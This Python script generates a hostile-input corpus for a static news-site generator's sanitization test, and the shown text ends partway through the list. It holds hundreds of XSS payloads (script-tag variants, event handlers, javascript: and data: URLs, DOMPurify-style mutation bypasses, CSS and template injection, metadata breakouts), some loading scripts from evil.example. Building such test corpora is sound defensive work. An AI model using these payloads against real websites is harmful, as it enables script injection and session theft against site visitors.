#!/usr/bin/env python3
"""Writes vectors.json, the hostile-input corpus of HostileInputTests.swift.

Every vector is {"name", "class", "place", "payload"} (and optionally "extraBody": markup
added to the article body of the same page). The test makes one realistic article per
vector with the payload in its place, builds the site and checks every output file.

Places (how the test's page generator uses the payload):
  body         raw markup between two paragraphs of the article body
  head         raw markup inside <head>
  h1-raw       raw markup inside <title> and <h1> (no og:title)
  title        text value: og:title, <title> and <h1> (entity-escaped, so the title IS the payload)
  byline       text value: <meta name=author> and the visible byline
  byline-raw   raw markup inside the visible byline element
  credit       raw markup in a "Reporter: ..." credit line in the body
  editor       raw markup in an "Editor: ..." line in the body
  tags         text value: one of the <meta name=keywords> entries
  region       text value: <meta name=geo.placename>
  section      text value: <meta property=article:section>
  description  text value: <meta property=og:description>
  jsonld       text value in every string field of a JSON-LD NewsArticle (JSON-escaped, "/" not escaped)
  jsonld-raw   raw text pasted inside the JSON-LD <script> block
  caption      raw markup in the <figcaption> of a figure in the body
  lang         raw value of <html lang="...">
  link-href    raw value of <a href="..."> in a body paragraph
  img-src      raw value of <img src="..."> in a figure in the body
  image        raw value of <meta property=og:image content="...">
  canonical    raw value of <link rel=canonical href="...">
  sidecar-url  value of "url" in the page's sidecar NAME.json
  md-body      Markdown body text of a hand-written .md article
  md-FIELD     front-matter value (title, author, tags, region, summary, image, caption, source,
               section, lang, slug) of a hand-written .md article

Run: python3 make-vectors.py   (rewrites vectors.json next to this script)
"""
import json
import os

V = []


def add(cls, place, name, payload, **extra):
    entry = {"name": name, "class": cls, "place": place, "payload": payload}
    entry.update(extra)
    V.append(entry)


def many(cls, place, items):
    for name, payload in items:
        add(cls, place, name, payload)


B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # <script>alert(1)</script>
B64_SVG = "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4="  # <svg ... onload=alert(1)/>

# --- 1. <script> in all spellings ---------------------------------------------------------
many("script", "body", [
    ("plain", "<script>alert(1)</script>"),
    ("upper-case", "<SCRIPT>alert(1)</SCRIPT>"),
    ("mixed-case", "<ScRiPt>alert(1)</sCrIpT>"),
    ("external-src", '<script src="https://evil.example/x.js"></script>'),
    ("protocol-relative-src", "<script src=//evil.example/x.js></script>"),
    ("slash-separator", '<script/src="data:text/javascript,alert(1)"></script>'),
    ("type-text-javascript", '<script type="text/javascript">alert(1)</script>'),
    ("type-module", '<script type="module">import("https://evil.example/m.js")</script>'),
    ("fake-ldjson-then-script", '<script type="application/ld+json">{"@type":"Thing"}</script><script>alert(1)</script>'),
    ("newline-in-tags", "<script\n>alert(1)</script\n>"),
    ("space-before-close", "<script >alert(1)</script >"),
    ("double-open-bracket", "<<script>alert(1)//<</script>"),
    ("nested-split", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("unclosed", "<script>alert(1)"),
    ("junk-attributes", "<script x>alert(1)</script y>"),
    ("comment-trick", "<script>/*</script><script>*/alert(1)</script>"),
    ("data-uri-src", "<script src=data:,alert(1)></script>"),
    ("vbscript-language", '<script language="vbscript">MsgBox 1</script>'),
    ("entity-in-body", "<script>alert&#40;1&#41;</script>"),
    ("html-comment-wrapped", "<!--<script>-->alert(1)<!--</script>-->"),
    ("null-in-tag-name", "<scr\u0000ipt>alert(1)</scr\u0000ipt>"),
    ("slash-attribute", '<script/xss src="https://evil.example/x.js"></script>'),
    ("document-write", "<script>document.write('<img src=x onerror=alert(1)>')</script>"),
    ("cdata-wrapped", "<script>//<![CDATA[\nalert(1)\n//]]></script>"),
    ("in-paragraph", "<p>Teks biasa <script>alert(1)</script> lanjut.</p>"),
    ("unicode-escape", "<script>\\u0061lert(1)</script>"),
])
add("script", "head", "in-head", "<script>alert(1)</script>")
add("script", "head", "in-head-external", '<script src="https://evil.example/h.js" defer></script>')

# --- 2. event handlers on every kind of element ---------------------------------------
many("event-handler", "body", [
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("img-onload", '<img src="https://cdn.example.org/foto/pasar.jpg" onload="alert(1)">'),
    ("img-upper", "<IMG SRC=x ONERROR=alert(1)>"),
    ("img-mixed-attr", "<img src=x oNeRrOr=alert(1)>"),
    ("img-entity-handler", '<img src=x onerror="&#97;lert(1)">'),
    ("img-eval-src", "<img src=x:alert(alt) onerror=eval(src) alt=0>"),
    ("img-newline-equals", "<img src=x onerror\n=\nalert(1)>"),
    ("img-spaced-equals", "<img src=x onerror  =  alert(1)>"),
    ("img-slash-separator", "<img/src=x/onerror=alert(1)>"),
    ("img-unclosed-tag", "<img src=x onerror=alert(1)//"),
    ("img-quote-confusion", '<img """><script>alert(1)</script>">'),
    ("body-onload", "<body onload=alert(1)>"),
    ("body-onpageshow", "<body onpageshow=alert(1)>"),
    ("div-onmouseover", '<div onmouseover="alert(1)">Arahkan kursor ke sini untuk membaca.</div>'),
    ("p-onclick", '<p onclick="alert(1)">Klik paragraf ini untuk detail.</p>'),
    ("a-onclick", '<a href="https://example.org/" onclick="alert(1)">tautan</a>'),
    ("a-onmouseover", "<p>Lihat <a href=\"https://example.org/\" onmouseover=alert(1)>tautan ini</a> juga.</p>"),
    ("input-autofocus", "<input autofocus onfocus=alert(1)>"),
    ("select-autofocus", "<select autofocus onfocus=alert(1)><option>a</option></select>"),
    ("textarea-autofocus", "<textarea autofocus onfocus=alert(1)>x</textarea>"),
    ("keygen-autofocus", "<keygen autofocus onfocus=alert(1)>"),
    ("details-ontoggle", "<details open ontoggle=alert(1)><summary>Ringkasan</summary>Isi</details>"),
    ("video-source-onerror", '<video><source onerror="alert(1)"></video>'),
    ("audio-onerror", "<audio src=x onerror=alert(1)>"),
    ("video-onerror", "<video src=x onerror=alert(1)></video>"),
    ("marquee-onstart", "<marquee onstart=alert(1)>berita</marquee>"),
    ("h2-onmouseover", "<h2 onmouseover=alert(1)>Subjudul berita</h2>"),
    ("blockquote-onclick", "<blockquote onclick=alert(1)>Kutipan narasumber yang panjang.</blockquote>"),
    ("li-onclick", "<ul><li onclick=alert(1)>butir satu</li><li>butir dua</li></ul>"),
    ("strong-onmouseover", "<p>Ini <strong onmouseover=alert(1)>tebal</strong> sekali.</p>"),
    ("em-slash-handler", "<p>Ini <em/onmouseover=alert(1)>miring</em> sekali.</p>"),
    ("pre-onclick", "<pre onclick=alert(1)>kode = 1</pre>"),
    ("code-onclick", "<p>Perintah <code onclick=alert(1)>ls -la</code> dijalankan.</p>"),
    ("figure-figcaption-onclick", '<figure onclick=alert(1)><img src="https://cdn.example.org/foto/a.jpg"><figcaption onclick=alert(1)>Keterangan foto</figcaption></figure>'),
    ("table-th-td-handlers", "<table><tr><th onclick=alert(1)>Kolom</th><th>Nilai</th></tr><tr><td onmouseover=alert(1)>a</td><td>1</td></tr></table>"),
    ("table-img-onerror-cell", "<table><tr><th>Kolom</th><th>Nilai</th></tr><tr><td><img src=x onerror=alert(1)></td><td>1</td></tr></table>"),
    ("iframe-onload", "<iframe onload=alert(1)></iframe>"),
    ("object-onerror", "<object onerror=alert(1)></object>"),
    ("svg-onload", "<svg onload=alert(1)>"),
    ("svg-slash-onload", "<svg/onload=alert(1)>"),
    ("style-onload", "<style onload=alert(1)></style>"),
    ("custom-element-onfocus", "<custom-element onfocus=alert(1) tabindex=1 autofocus>isi</custom-element>"),
    ("unknown-element-onclick", "<x onclick=alert(1)>elemen asing</x>"),
    ("animation-handler", '<p style="animation-name:spin" onanimationstart="alert(1)">animasi</p>'),
    ("pointer-handler", '<div style="position:fixed;inset:0" onpointerenter=alert(1)>penuh</div>'),
    ("br-onclick", "<p>baris<br onclick=alert(1)>baru</p>"),
    ("hr-onmouseover", "<hr onmouseover=alert(1)>"),
    ("sub-sup-handlers", "<p>H<sub onclick=alert(1)>2</sub>O dan x<sup onclick=alert(1)>2</sup></p>"),
    ("del-handler", "<p><del onclick=alert(1)>dicoret</del></p>"),
    ("backtick-attribute", "<img src=`x` onerror=alert(1)>"),
])

# --- 3. dangerous URL schemes in every URL attribute ----------------------------------
many("url-scheme", "body", [
    ("a-href-javascript", '<p>Baca <a href="javascript:alert(1)">selengkapnya</a> di sini.</p>'),
    ("a-href-mixed-case", '<p><a href="JaVaScRiPt:alert(1)">klik</a></p>'),
    ("a-href-leading-space", '<p><a href=" javascript:alert(1)">klik</a></p>'),
    ("a-href-decimal-entity", '<p><a href="&#106;avascript:alert(1)">klik</a></p>'),
    ("a-href-hex-entities", '<p><a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">klik</a></p>'),
    ("a-href-entities-no-semicolon", '<p><a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">klik</a></p>'),
    ("a-href-colon-entity", '<p><a href="javascript&colon;alert(1)">klik</a></p>'),
    ("a-href-tab-entity", '<p><a href="java&Tab;script:alert(1)">klik</a></p>'),
    ("a-href-newline-entity", '<p><a href="java&NewLine;script:alert(1)">klik</a></p>'),
    ("a-href-literal-tab", '<p><a href="java\tscript:alert(1)">klik</a></p>'),
    ("a-href-literal-newline", '<p><a href="java\nscript:alert(1)">klik</a></p>'),
    ("a-href-literal-cr", '<p><a href="java\rscript:alert(1)">klik</a></p>'),
    ("a-href-null-byte", '<p><a href="java\u0000script:alert(1)">klik</a></p>'),
    ("a-href-leading-control", '<p><a href="\u0001javascript:alert(1)">klik</a></p>'),
    ("a-href-hex-tab-entity", '<p><a href="jav&#x09;ascript:alert(1)">klik</a></p>'),
    ("a-href-partial-entity", '<p><a href="javas&#99;ript:alert(1)">klik</a></p>'),
    ("a-href-comment-newline", '<p><a href="javascript://%0aalert(1)">klik</a></p>'),
    ("a-href-fake-https-suffix", '<p><a href="javascript:alert(1)//https://example.org/">klik</a></p>'),
    ("a-href-vbscript", '<p><a href="vbscript:msgbox(1)">klik</a></p>'),
    ("a-href-vbscript-case", '<p><a href="VBScript:msgbox(1)">klik</a></p>'),
    ("a-href-data-base64", '<p><a href="data:text/html;base64,' + B64_SCRIPT + '">klik</a></p>'),
    ("a-href-data-html", '<p><a href="data:text/html,<script>alert(1)</script>">klik</a></p>'),
    ("a-href-data-upper", '<p><a href="DATA:text/html,%3Cscript%3Ealert(1)%3C/script%3E">klik</a></p>'),
    ("a-href-file", '<p><a href="file:///etc/passwd">klik</a></p>'),
    ("a-href-unquoted", "<p><a href=javascript:alert(1)>klik</a></p>"),
    ("a-href-single-quoted", "<p><a href='javascript:alert(1)'>klik</a></p>"),
    ("a-href-percent-colon", '<p><a href="javascript%3Aalert(1)">klik</a></p>'),
    ("area-href", '<map name="m"><area href="javascript:alert(1)" shape="rect" coords="0,0,9,9"></map>'),
    ("img-src-javascript", '<figure><img src="javascript:alert(1)"><figcaption>Foto</figcaption></figure>'),
    ("img-src-data-svg", '<figure><img src="data:image/svg+xml;base64,' + B64_SVG + '"><figcaption>Foto</figcaption></figure>'),
    ("img-srcset-javascript", '<img srcset="javascript:alert(1) 1x, https://cdn.example.org/foto/b.jpg 2x">'),
    ("img-srcset-only-javascript", '<img srcset="javascript:alert(1) 800w">'),
    ("img-srcset-data-svg", "<img srcset=\"data:image/svg+xml,<svg onload=alert(1)> 2x\">"),
    ("img-data-src-javascript", '<img data-src="javascript:alert(1)" src="https://cdn.example.org/foto/blank.gif">'),
    ("img-data-srcset-javascript", '<img data-srcset="javascript:alert(1) 800w" src="https://cdn.example.org/placeholder.gif">'),
    ("picture-source-srcset", '<picture><source srcset="javascript:alert(1)"><img src="https://cdn.example.org/foto/c.jpg"></picture>'),
    ("form-action", '<form action="javascript:alert(1)"><input type=submit value="Kirim"></form>'),
    ("button-formaction", '<form><button formaction="javascript:alert(1)">Kirim</button></form>'),
    ("input-image-formaction", '<input type="image" formaction="javascript:alert(1)" src="https://cdn.example.org/b.png">'),
    ("video-poster", '<video poster="javascript:alert(1)" src="https://cdn.example.org/v.mp4"></video>'),
    ("svg-a-xlink-href", '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>'),
    ("svg-a-href", '<svg><a href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>'),
    ("math-a-xlink-href", '<math><a xlink:href="javascript:alert(1)">klik</a></math>'),
    ("iframe-src-javascript", '<iframe src="javascript:alert(1)"></iframe>'),
    ("embed-src-javascript", '<embed src="javascript:alert(1)">'),
    ("object-data-javascript", '<object data="javascript:alert(1)"></object>'),
    ("table-background", '<table background="javascript:alert(1)"><tr><th>a</th><th>b</th></tr><tr><td>1</td><td>2</td></tr></table>'),
    ("blockquote-cite", '<blockquote cite="javascript:alert(1)">Kutipan panjang dari narasumber.</blockquote>'),
    ("link-import", '<link rel="import" href="data:text/html,<script>alert(1)</script>">'),
    ("quote-breakout-href", '<p><a href="https://example.org/&quot;onmouseover=&quot;alert(1)">klik</a></p>'),
    ("quote-breakout-single", "<p><a href='https://example.org/\"><script>alert(1)</script>'>klik</a></p>"),
    ("quote-breakout-img", '<img src="https://cdn.example.org/a.jpg&quot; onerror=&quot;alert(1)">'),
    ("title-attribute-breakout", '<p><a href="https://example.org/" title="&quot;><script>alert(1)</script>">klik</a></p>'),
    ("alt-breakout", '<figure><img src="https://cdn.example.org/foto/d.jpg" alt="&quot; onerror=&quot;alert(1)"><figcaption>Foto</figcaption></figure>'),
    ("img-title-breakout", '<img src="https://cdn.example.org/foto/e.jpg" title="x&quot;/onerror=alert(1)//">'),
    ("mailto-with-script", '<p><a href="mailto:redaksi@example.org?body=<script>alert(1)</script>">surat</a></p>'),
    ("https-with-script-query", '<p><a href="https://evil.example/?q=<script>alert(1)</script>">cari</a></p>'),
    ("youtube-iframe-quote", '<iframe src="https://www.youtube.com/embed/abc&quot; onload=&quot;alert(1)"></iframe>'),
    ("youtube-iframe-javascript-path", '<iframe src="https://www.youtube.com/embed/javascript:alert(1)"></iframe>'),
])

# URL payloads placed in every URL-bearing place (link, image, og:image, canonical, sidecar, md).
URLS = [
    ("javascript", "javascript:alert(1)"),
    ("javascript-upper", "JAVASCRIPT:alert(1)"),
    ("javascript-leading-space", " javascript:alert(1)"),
    ("javascript-tab", "java\tscript:alert(1)"),
    ("javascript-newline", "java\nscript:alert(1)"),
    ("javascript-null", "java\u0000script:alert(1)"),
    ("javascript-control-prefix", "\u0001javascript:alert(1)"),
    ("vbscript", "vbscript:msgbox(1)"),
    ("data-html", "data:text/html;base64," + B64_SCRIPT),
    ("data-svg", "data:image/svg+xml;base64," + B64_SVG),
    ("quote-breakout", 'https://cdn.example.org/x.jpg" onerror="alert(1)'),
    ("angle-breakout", "https://cdn.example.org/x.jpg'><script>alert(1)</script>"),
]
for name, url in URLS:
    for place in ["image", "canonical", "sidecar-url", "md-image", "md-source", "link-href", "img-src"]:
        if place in ("link-href", "img-src") and name not in ("quote-breakout", "angle-breakout", "data-svg"):
            continue  # plain schemes in href/src are covered above
        add("url-scheme", place, name, url)
add("url-scheme", "image", "og-image-entity", "&#106;avascript:alert(1)")
add("url-scheme", "canonical", "canonical-entity", "&#x6A;avascript&colon;alert(1)")
add("url-scheme", "lang", "lang-breakout", 'id" onmouseover="alert(1)')
add("url-scheme", "lang", "lang-script", "id><script>alert(1)</script>")

# --- 4. SVG and MathML payloads ---------------------------------------------------------
many("svg-mathml", "body", [
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("svg-animate-onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>"),
    ("svg-set-handler", '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>'),
    ("svg-animate-href", '<svg><animate attributeName="href" values="javascript:alert(1)"/><a><text y="20">x</text></a></svg>'),
    ("svg-foreignobject-iframe", '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>'),
    ("svg-use-data", "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"></use></svg>"),
    ("svg-image-onerror", '<svg><image href="x" onerror="alert(1)"/></svg>'),
    ("svg-cdata-breakout", "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></desc></svg>"),
    ("svg-handler-element", '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>'),
    ("svg-g-onload", '<svg xmlns="http://www.w3.org/2000/svg"><g onload="alert(1)"></g></svg>'),
    ("svg-title-breakout", "<svg><title><img src=x onerror=alert(1)></title></svg>"),
    ("math-href", '<math href="javascript:alert(1)">KLIK</math>'),
    ("math-maction", '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>'),
    ("math-mglyph-style", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>"),
    ("math-annotation-xml", '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>'),
])

# --- 5. embedding elements, <base>, <meta refresh> -------------------------------------
many("embed", "body", [
    ("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
    ("iframe-srcdoc-raw", "<iframe srcdoc=\"<img src=x onerror=alert(1)>\"></iframe>"),
    ("iframe-data", '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>'),
    ("iframe-external", '<iframe src="https://evil.example/"></iframe>'),
    ("object-data-base64", '<object data="data:text/html;base64,' + B64_SCRIPT + '"></object>'),
    ("object-scriptlet", '<object type="text/x-scriptlet" data="https://evil.example/x.sct"></object>'),
    ("object-param", '<object><param name="src" value="javascript:alert(1)"></object>'),
    ("embed-svg-data", '<embed src="data:image/svg+xml;base64,' + B64_SVG + '">'),
    ("embed-external-svg", '<embed type="image/svg+xml" src="https://evil.example/x.svg">'),
    ("applet", '<applet code="Xss.class" codebase="https://evil.example/"></applet>'),
    ("frameset", '<frameset><frame src="javascript:alert(1)"></frameset>'),
    ("portal", '<portal src="https://evil.example/"></portal>'),
    ("base-in-body", '<base href="javascript:alert(1)//">'),
    ("meta-refresh-in-body", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("template-element", "<template><img src=x onerror=alert(1)></template>"),
    ("isindex", '<isindex type=image src=1 onerror=alert(1)>'),
])
many("embed", "head", [
    ("base-javascript", '<base href="javascript:alert(1)//">'),
    ("base-external", '<base href="https://evil.example/">'),
    ("meta-refresh-javascript", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("meta-refresh-data", '<meta http-equiv="refresh" content="0; url=data:text/html;base64,' + B64_SCRIPT + '">'),
    ("meta-refresh-external", '<meta http-equiv="refresh" content="5; URL=https://evil.example/">'),
    ("meta-set-cookie", '<meta http-equiv="Set-Cookie" content="session=evil">'),
    ("link-import-head", '<link rel="import" href="https://evil.example/x.html">'),
    ("link-preload-script", '<link rel="preload" as="script" href="https://evil.example/x.js">'),
    ("meta-og-url-javascript", '<meta property="og:url" content="javascript:alert(1)">'),
])
add("embed", "head", "utf7-charset", '<meta charset="utf-7">',
    extraBody="<p>+ADw-script+AD4-alert(1)+ADw-/script+AD4- dan +ADw-img src+AD0-x onerror+AD0-alert(1)+AD4-</p>")

# --- 6. CSS -------------------------------------------------------------------------------
many("css", "body", [
    ("style-url-javascript", '<div style="background:url(javascript:alert(1))">Latar belakang</div>'),
    ("style-expression", '<div style="width:expression(alert(1))">Lebar</div>'),
    ("style-element-url", '<style>body{background:url("javascript:alert(1)")}</style>'),
    ("style-import", "<style>@import 'https://evil.example/x.css';</style>"),
    ("style-element-expression", "<style>*{x:expression(alert(1))}</style>"),
    ("link-stylesheet-javascript", '<link rel="stylesheet" href="javascript:alert(1)">'),
    ("behavior-htc", '<div style="behavior:url(https://evil.example/x.htc)">x</div>'),
    ("moz-binding", '<div style="-moz-binding:url(https://evil.example/x.xml#xss)">x</div>'),
    ("style-entity-url", "<p style=\"background-image:url('&#106;avascript:alert(1)')\">Paragraf bergaya.</p>"),
    ("style-comment-expression", '<img src="https://cdn.example.org/foto/f.jpg" style="xss:expr/**/ession(alert(1))">'),
    ("table-style", '<table style="background:url(javascript:alert(1))"><tr><th>a</th><th>b</th></tr><tr><td>1</td><td>2</td></tr></table>'),
    ("style-escape-sequence", '<p style="background:url(&quot;jav\\61script:alert(1)&quot;)">x</p>'),
])
add("css", "head", "style-in-head", "<style>@import url(javascript:alert(1));</style>")

# --- 7. template syntax -----------------------------------------------------------------
TEMPLATES = [
    ("site-title", "{{site.title}}"),
    ("triple-body", "{{{article.body}}}"),
    ("section-site", "{{#site}}{{title}}{{/site}}"),
    ("partial", "{{> partials/header}}"),
    ("delimiter-change", "{{=<% %>=}}<% site.title %>"),
    ("comment", "{{! tersembunyi }}"),
    ("canonical", "{{page.canonicalURL}}"),
    ("js-template", "${7*7}"),
    ("erb", "<%= 7*7 %>"),
    ("angular", "{{constructor.constructor('alert(1)')()}}"),
    ("block", "{{$content}}ganti{{/content}}"),
]
for name, payload in TEMPLATES:
    add("template", "title", name, payload)
    add("template", "md-body", name, payload)
for place in ["byline", "tags", "description", "body", "md-title", "md-summary", "caption", "region"]:
    add("template", place, "site-title-" + place, "{{site.title}}")
add("template", "body", "triple-in-body", "<p>Lihat {{{page.title}}} dan {{strings.home}} di sini.</p>")

# --- 8. mutation XSS and text that must stay text ----------------------------------------
many("mutation", "body", [
    ("noscript-title", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'),
    ("svg-style-img", "<svg><style><img src=x onerror=alert(1)></style></svg>"),
    ("dompurify-2.0.0", '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">'),
    ("dompurify-2.0.17", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"),
    ("svg-p-style", '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'),
    ("math-textarea", '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">'),
    ("noembed", '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>'),
    ("noframes", '<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>'),
    ("iframe-text", '<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>'),
    ("xmp", '<xmp><p title="</xmp><img src=x onerror=alert(1)>">'),
    ("textarea", '<textarea><p title="</textarea><img src=x onerror=alert(1)>">'),
    ("title-in-body", '<title><img title="</title><img src=x onerror=alert(1)>">'),
    ("style-in-body", '<style><img title="</style><img src=x onerror=alert(1)>">'),
    ("comment-attribute", '<!--<img src="--><img src=x onerror=alert(1)//">'),
    ("comment-bang-close", "<!-- --!><img src=x onerror=alert(1)> -->"),
    ("plaintext", "<plaintext><img src=x onerror=alert(1)>"),
    ("escaped-img-text", "<p>&lt;img src=x onerror=alert(1)&gt;</p>"),
    ("double-escaped-script-text", "<p>&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;</p>"),
    ("escaped-script-in-code", "<p>Contoh <code>&lt;script&gt;alert(1)&lt;/script&gt;</code> berbahaya.</p>"),
    ("escaped-in-pre", "<pre>&lt;/code&gt;&lt;/pre&gt;&lt;script&gt;alert(1)&lt;/script&gt;</pre>"),
    ("fence-in-pre", "<pre><code>```\n&lt;script&gt;alert(1)&lt;/script&gt;\n```</code></pre>"),
    ("pre-class-injection", '<pre class="language-js&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;"><code>x = 1</code></pre>'),
    ("pre-lang-breakout", '<pre><code class="language-x onmouseover=alert(1)">y = 2</code></pre>'),
    ("escaped-comment-then-script", "<p>&lt;!-- x --&gt;&lt;script&gt;alert(1)&lt;/script&gt;</p>"),
    ("markdown-link-text", "<p>[klik di sini](javascript:alert(1)) untuk hadiah.</p>"),
    ("markdown-autolink-text", "<p>&lt;javascript:alert(1)&gt; adalah teks.</p>"),
    ("markdown-image-text", "<p>![gambar](javascript:alert(1)) adalah teks.</p>"),
    ("markdown-reference-text", "<p>[x]: javascript:alert(1)</p><p>[x] di sini.</p>"),
    ("html-block-text", "<p>&lt;table&gt;&lt;tr&gt;&lt;td&gt;&lt;img src=x onerror=alert(1)&gt;&lt;/td&gt;&lt;/tr&gt;&lt;/table&gt;</p>"),
    ("inline-tag-text", "<p>&lt;sub onclick=alert(1)&gt;x&lt;/sub&gt; dan &lt;em&gt;teks&lt;/em&gt;</p>"),
    ("html-block-start-text", "<p>&lt;div&gt;\n&lt;script&gt;alert(1)&lt;/script&gt;\n&lt;/div&gt;</p>"),
    ("link-text-markdown", '<p><a href="https://example.org/">[x](javascript:alert(1))</a></p>'),
    ("alt-markdown-breakout", '<figure><img src="https://cdn.example.org/foto/g.jpg" alt="](javascript:alert(1))"><figcaption>Foto</figcaption></figure>'),
    ("href-paren-breakout", '<p><a href="https://example.org/a)(javascript:alert(1)">klik</a></p>'),
    ("href-angle-space", '<p><a href="https://example.org/a> <script>">klik</a></p>'),
    ("href-title-injection", '<p><a href="https://example.org/ &quot;judul&quot;">klik</a></p>'),
    ("table-cell-escaped-html", "<table><tr><th>a</th><th>b</th></tr><tr><td>&lt;/td&gt;&lt;/tr&gt;&lt;/table&gt;&lt;script&gt;alert(1)&lt;/script&gt;</td><td>x</td></tr></table>"),
    ("table-caption-script", "<table><caption><script>alert(1)</script>Tabel</caption><tr><th>a</th><th>b</th></tr></table>"),
    ("table-cell-bad-links", '<table><tr><th>a</th><th>b</th></tr><tr><td><a href="javascript:alert(1)">x</a></td><td><img src="javascript:alert(1)"></td></tr></table>'),
    ("table-cell-quote-attr", '<table><tr><th>a</th><th>b</th></tr><tr><td><a href="https://example.org/" title="&quot; onclick=&quot;alert(1)">x</a></td><td>2</td></tr></table>'),
    ("table-colspan-breakout", '<table><tr><th colspan="2&quot; onclick=&quot;alert(1)">a</th><th>b</th></tr><tr><td>1</td><td>2</td></tr></table>'),
    ("table-cell-comment-text", "<table><tr><th>a</th><th>b</th></tr><tr><td>&lt;!--</td><td>--&gt;&lt;img src=x onerror=alert(1)&gt;</td></tr></table>"),
    ("nested-a-breakout", '<p><a href="https://example.org/1"><a href="javascript:alert(1)">dalam</a></a></p>'),
    ("cdata-in-body", "<![CDATA[<img src=x onerror=alert(1)>]]>"),
    ("processing-instruction", "<?xml-stylesheet href=\"javascript:alert(1)\"?>"),
    ("doctype-in-body", "<!DOCTYPE html><img src=x onerror=alert(1)>"),
    ("entity-bomb-lt", "<p>" + "&lt;" * 50 + "script&gt;alert(1)&lt;/script&gt;</p>"),
    ("unicode-fullwidth-lt", "<p>\uff1cscript\uff1ealert(1)\uff1c/script\uff1e</p>"),
    ("u2028-in-text", "<p>baris\u2028baru\u2029</p><p>&lt;/script&gt;</p>"),
])

# --- 9. payloads in metadata ------------------------------------------------------------
META_TEXT = [
    ("script", "<script>alert(1)</script>"),
    ("attr-breakout-double", '"><script>alert(1)</script>'),
    ("attr-breakout-single", "'><img src=x onerror=alert(1)>"),
    ("attr-handler", '" onmouseover="alert(1)'),
    ("close-title", "</title><script>alert(1)</script>"),
    ("close-script", "</script><script>alert(1)</script>"),
    ("cdata-breakout", "]]><script>alert(1)</script>"),
    ("escaped-entities", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("svg-onload", "<svg onload=alert(1)>"),
    ("separators-close-script", "Warga\u2028Kota\u2029</script><!--"),
    ("nul-byte", "Kota\u0000<script>alert(1)</script>"),
    ("c0-controls", "Kota\u0001\u0008\u000b\u001b[31mMerah\u007f\u0085 Lama"),
]
META_PLACES = ["title", "h1-raw", "byline", "byline-raw", "credit", "editor", "tags", "region", "section",
               "description", "jsonld", "caption", "md-title", "md-author", "md-tags", "md-region",
               "md-summary", "md-caption", "md-section", "md-lang", "md-slug"]
for name, payload in META_TEXT:
    for place in META_PLACES:
        add("metadata", place, name, payload)
many("metadata", "jsonld-raw", [
    ("break-out-of-ldjson", "</script><script>alert(1)</script>"),
    ("comment-open", "<!--<script>"),
    ("upper-close", "</SCRIPT ><img src=x onerror=alert(1)>"),
])

# --- 10. hand-written Markdown bodies ---------------------------------------------------
many("markdown", "md-body", [
    ("raw-script", "<script>alert(1)</script>"),
    ("raw-img-onerror", "<img src=x onerror=alert(1)>"),
    ("link-javascript", "[klik](javascript:alert(1))"),
    ("link-javascript-upper", "[klik](JAVASCRIPT:alert(1))"),
    ("link-entity-javascript", "[klik](&#106;avascript:alert(1))"),
    ("link-colon-entity", "[klik](javascript&colon;alert(1))"),
    ("link-vbscript", "[klik](vbscript:msgbox(1))"),
    ("link-data", "[klik](data:text/html;base64," + B64_SCRIPT + ")"),
    ("link-angle-destination", "[klik](<javascript:alert(1)>)"),
    ("link-percent-paren", "[klik](javascript:alert%281%29)"),
    ("image-javascript", "![gambar](javascript:alert(1))"),
    ("image-data-svg", "![gambar](data:image/svg+xml;base64," + B64_SVG + ")"),
    ("autolink-javascript", "<javascript:alert(1)>"),
    ("autolink-upper", "<JAVASCRIPT:alert(1)>"),
    ("autolink-vbscript", "<vbscript:msgbox(1)>"),
    ("autolink-data", "<data:text/html,alert(1)>"),
    ("autolink-quote", '<https://example.org/"onmouseover="alert(1)>'),
    ("reference-javascript", "[klik][r]\n\n[r]: javascript:alert(1)"),
    ("reference-angle-title", '[klik][1]\n\n[1]: <javascript:alert(1)> "judul"'),
    ("link-title-quote", '[klik](https://example.org/ "a\\" onmouseover=\\"alert(1)")'),
    ("image-alt-quote", '![x" onerror="alert(1)](https://cdn.example.org/foto/h.jpg)'),
    ("table-img-onerror", "<table><tr><td><img src=x onerror=alert(1)></td></tr></table>"),
    ("table-javascript-link", '<table>\n<tr><td><a href="javascript:alert(1)">x</a></td></tr>\n</table>'),
